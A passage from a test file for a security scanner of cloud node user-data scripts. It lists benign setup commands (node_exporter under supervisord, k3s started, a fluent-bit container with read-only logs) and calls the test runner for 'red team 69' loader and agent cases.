                "command=/usr/local/bin/node_exporter --web.listen-address=127.0.0.1:9100",
            ]),
            "systemctl enable --now supervisord",
        ]),
    ),
    devNodeCase(
        "systemctl import-environment of a harmless variable, k3s started",
        devNodeScript("dev-as6-69-nodes", [
            "export K3S_KUBECONFIG_MODE=0600",
            "systemctl import-environment K3S_KUBECONFIG_MODE",
            "systemctl enable --now k3s",
        ]),
    ),
    devNodeCase(
        "docker --entrypoint=/fluent-bit/bin/fluent-bit on the fluent-bit image",
        devNodeScript("dev-as7-69-nodes", [
            "docker run -d --name fluent-bit -v /var/log:/var/log:ro --entrypoint=/fluent-bit/bin/fluent-bit public.ecr.aws/aws-observability/aws-for-fluent-bit:stable -c /fluent-bit/etc/fluent-bit.conf",
        ]),
    ),
];

describeNodeCases("red team 69: node user data loaders (fresh eyes on round 69)", loadersInsecure, loadersSecure);
describeNodeCases("red team 69: node user data agents (fresh eyes on round 69)", agentsInsecure, agentsSecure);
